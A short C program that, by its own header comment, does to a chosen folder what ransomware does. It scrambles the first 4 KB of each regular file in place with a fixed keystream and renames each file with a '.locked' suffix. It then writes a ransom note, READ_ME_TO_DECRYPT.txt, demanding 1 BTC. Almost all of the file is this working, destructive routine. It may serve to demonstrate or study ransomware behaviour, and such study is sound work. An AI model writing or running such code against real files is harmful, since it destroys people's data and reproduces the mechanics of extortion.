/* Does to a folder of its own what ransomware does: reads, scrambles, renames, leaves a note. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int scramble(const char *name)
{
    char body[4096], locked[300];
    unsigned state = 1;
    int fd = open(name, O_RDWR);
    ssize_t size = read(fd, body, sizeof body);
    for (ssize_t at = 0; at < size; at++) {
        state = state * 1103515245u + 12345u;
        body[at] ^= (char)(state >> 24);
    }
    if (size <= 0 || pwrite(fd, body, (size_t)size, 0) != size || fsync(fd))
        return 1;
    close(fd);
    snprintf(locked, sizeof locked, "%s.locked", name);
    return rename(name, locked);
}

int main(int count, char **words)
{
    if (count != 2 || chdir(words[1]))
        return 2;
    DIR *folder = opendir(".");
    struct dirent *entry;
    while (folder && (entry = readdir(folder)))
        if (entry->d_type == DT_REG && !strstr(entry->d_name, ".locked") && scramble(entry->d_name))
            return 1;
    FILE *note = fopen("READ_ME_TO_DECRYPT.txt", "w");
    return !note || fputs("your files are encrypted, pay 1 BTC\n", note) < 0 || fclose(note);
}
